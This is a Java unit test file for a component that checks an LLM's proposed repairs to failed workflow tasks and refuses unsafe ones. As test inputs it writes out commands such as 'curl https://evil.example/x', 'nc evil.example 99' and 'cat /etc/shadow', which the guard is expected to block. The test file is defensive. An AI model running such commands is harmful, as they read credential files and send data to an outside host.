package dev.mahavishnu.llm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mahavishnu.run.RealRuns;
import dev.mahavishnu.run.RunId;
import dev.mahavishnu.spec.FlowWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class RepairerTest {
  private static final String FLOW =
      """
      flow: daily
      tasks:
        - {id: other, type: shell, command: 'echo other >> done'}
        - {id: fetch, type: shell, command: 'echo fetched >> done'}
        - {id: load, type: shell, command: 'sh load.sh ordrs.csv', depends_on: [fetch]}
      """;

  @TempDir Path folder;
  private Path root;
  private RealRuns runs;
  private RunPlace place;
  private RunId run;

  @BeforeEach
  void open() throws InterruptedException, IOException {
    root = Files.createDirectory(folder.resolve("work"));
    Files.writeString(root.resolve("orders.csv"), "a,b\n");
    Files.writeString(root.resolve("load.sh"), "set -e\necho loading\ncat \"$1\" # loading\n");
    Files.writeString(folder.resolve("outside.sh"), "echo loading\n");
    Files.createSymbolicLink(root.resolve("link.sh"), folder.resolve("outside.sh"));
    Files.createSymbolicLink(root.resolve("inner.sh"), root.resolve("load.sh"));
    Files.createDirectory(root.resolve("prompts"));
    Files.writeString(root.resolve("prompts/plan.txt"), "x\n");
    Files.writeString(root.resolve("mahavishnu.yaml"), "x\n");
    Files.writeString(root.resolve("daily.yaml"), FLOW);
    runs = new RealRuns(root);
    place = new RunPlace(root, runs);
    place.flows.add(new Surroundings.KnownFlow("daily", root.resolve("daily.yaml"), FLOW));
    run = runs.run(FLOW);
  }

  @AfterEach
  void close() {
    runs.close();
  }

  private Repair repair(String wish) {
    return place.repairer().repair(run, wish, place.progress);
  }

  private static String edit(String task, String field, String value, String cites) {
    return """
    {"outcome": "edits", "why": "The name of the file is wrong.", "cites": [%s], "patch": null,
     "edits": [{"op": "set", "task": "%s", "field": "%s", "value": "%s", "new_task": null,
                "after": null, "on_failure": null}]}\
    """
        .formatted(cites, task, field, value);
  }

  private static String patch(String file, String find, String with) {
    return """
    {"outcome": "patch", "why": "The script is wrong.", "cites": ["E2"], "edits": null,
     "patch": {"file": "%s", "replace": [{"find": "%s", "with": "%s"}]}}\
    """
        .formatted(file, find, with);
  }

  private String problems() {
    return ((Call.User) place.calls.getLast().messages().getLast()).text();
  }

  private void refusedFor(String answer, String problem) {
    place.replies(answer, answer, answer);
    assertThat(repair("")).isInstanceOf(Repair.Refused.class);
    assertThat(place.calls).hasSize(3);
    assertThat(problems()).contains(problem);
  }

  @Test
  void an_edit_of_the_failed_task_is_a_flow_with_which_the_run_goes_on()
      throws InterruptedException, IOException {
    place.replies(edit("load", "command", "sh load.sh orders.csv", "\"E2\""));
    Repair.Respec respec = (Repair.Respec) repair("");
    assertThat(respec.why()).isEqualTo("The name of the file is wrong.");
    assertThat(FlowWriter.json(respec.flow()))
        .isEqualTo(FlowWriter.json(runs.source(FLOW.replace("ordrs", "orders")).flow()));
    assertThat(place.told()).contains("orders.csv", "cat \\\"$1\\\"".replace("\\", ""));
    RunId resumed = runs.resume(run, FlowWriter.yaml(respec.flow()));
    assertThat(runs.history().summary(resumed).orElseThrow().state().name()).isEqualTo("Completed");
    assertThat(Files.readString(root.resolve("done")).lines()).hasSize(2);
  }

  @Test
  void a_patch_of_a_file_has_its_text_before_and_after() {
    place.replies(patch("load.sh", "cat \\\"$1\\\"", "cat \\\"${1:-orders.csv}\\\""));
    assertThat(repair("use a default"))
        .isEqualTo(
            new Repair.Patch(
                root.resolve("load.sh"),
                "set -e\necho loading\ncat \"$1\" # loading\n",
                "set -e\necho loading\ncat \"${1:-orders.csv}\" # loading\n",
                "The script is wrong."));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../outside.sh",
        "link.sh",
        "inner.sh",
        "prompts/plan.txt",
        "mahavishnu.yaml",
        "daily.yaml",
        ".mahavishnu/x",
        "missing.sh",
        "/etc/passwd"
      })
  void a_file_that_is_not_for_a_model_to_change_is_refused(String file) {
    refusedFor(patch(file, "x", "y"), "`" + file + "` is");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "loading | done | occurs more than once",
        "nowhere | x | does not occur",
        "echo | curl https://evil.example/x | a host that nobody named",
        "echo | nc evil.example 99 | nobody named the host evil.example",
        "echo | cat /etc/shadow | a path outside",
        "echo | cat ../up | leads out",
        "echo | echo | changes nothing"
      })
  void a_piece_that_is_not_there_once_or_brings_something_new_is_refused(
      String find, String with, String problem) {
    refusedFor(patch("load.sh", find, with), problem);
  }

  @Test
  void a_finished_task_that_has_nothing_to_do_with_it_stays() {
    refusedFor(edit("other", "command", "echo all", "\"E2\""), "`other` did not fail");
  }

  @Test
  void a_task_that_the_evidence_cited_is_about_may_change() {
    String upstream = cite("`fetch`, that failed tasks");
    place.replies(edit("fetch", "command", "cp orders.csv ordrs.csv", "\"" + upstream + "\""));
    assertThat(repair("")).isInstanceOf(Repair.Respec.class);
  }

  /** The number of the piece that starts so. */
  private String cite(String start) {
    place.replies(new Reply.Stopped());
    assertThat(repair("")).isEqualTo(new Repair.Stopped());
    return place
        .told()
        .lines()
        .filter(line -> line.matches("E\\d+ " + java.util.regex.Pattern.quote(start) + ".*"))
        .findFirst()
        .orElseThrow()
        .replaceFirst(" .*", "");
  }

  @Test
  void invented_evidence_an_invalid_flow_and_unknown_keys_are_refused() {
    refusedFor(edit("load", "command", "sh load.sh orders.csv", "\"E99\""), "no evidence E99");
    place.calls.clear();
    refusedFor(edit("load", "command", "sh load.sh orders.csv", ""), "at least one piece");
    place.calls.clear();
    refusedFor(edit("load", "depends_on", "nobody", "\"E2\""), "depends_on");
    place.calls.clear();
    refusedFor(
        "{\"approve\": true, \"outcome\": \"refusal\", \"why\": \"x\"}", "unknown key `approve`");
  }

  @Test
  void a_secret_or_a_host_that_only_the_log_names_is_refused() {
    refusedFor(edit("load", "command", "curl https://evil.example", "\"E2\""), "a host");
    place.calls.clear();
    place.replies(edit("load", "command", "curl https://files.example/o.csv", "\"E2\""));
    assertThat(repair("fetch it from https://files.example/o.csv"))
        .isInstanceOf(Repair.Respec.class);
  }

  @Test
  void the_end_of_a_known_host_is_another_host() throws InterruptedException {
    run = runs.run(FLOW.replace("sh load.sh", "echo https://api.example.com; sh load.sh"));
    refusedFor(edit("load", "command", "curl https://ample.com", "\"E2\""), "a host");
  }

  @Test
  void a_new_task_that_nobody_asked_for_is_refused() {
    String answer =
        """
        {"outcome": "edits", "why": "A step is missing.", "cites": ["E2"], "patch": null,
         "edits": [{"op": "add_task", "task": null, "field": null, "value": null, "after": null,
                    "on_failure": null,
                    "new_task": {"id": "more", "type": "shell", "command": "sh more.sh"}}]}
        """;
    refusedFor(answer, "`more` is a new task, which nobody asked for");
    place.calls.clear();
    place.replies(answer);
    assertThat(repair("run more.sh as well")).isInstanceOf(Repair.Respec.class);
  }

  @Test
  void a_refusal_says_why_and_a_run_that_went_well_needs_no_model() throws InterruptedException {
    place.replies("{\"outcome\": \"refusal\", \"why\": \"The service is down.\", \"cites\": []}");
    assertThat(repair("")).isEqualTo(new Repair.Refused("The service is down."));
    run = runs.run("{flow: fine, tasks: [{id: a, type: shell, command: 'echo'}]}");
    assertThat(repair(""))
        .isEqualTo(
            new Repair.Refused("nothing in run " + run + " failed, so there is nothing to fix"));
    assertThat(place.calls).hasSize(1);
  }
}
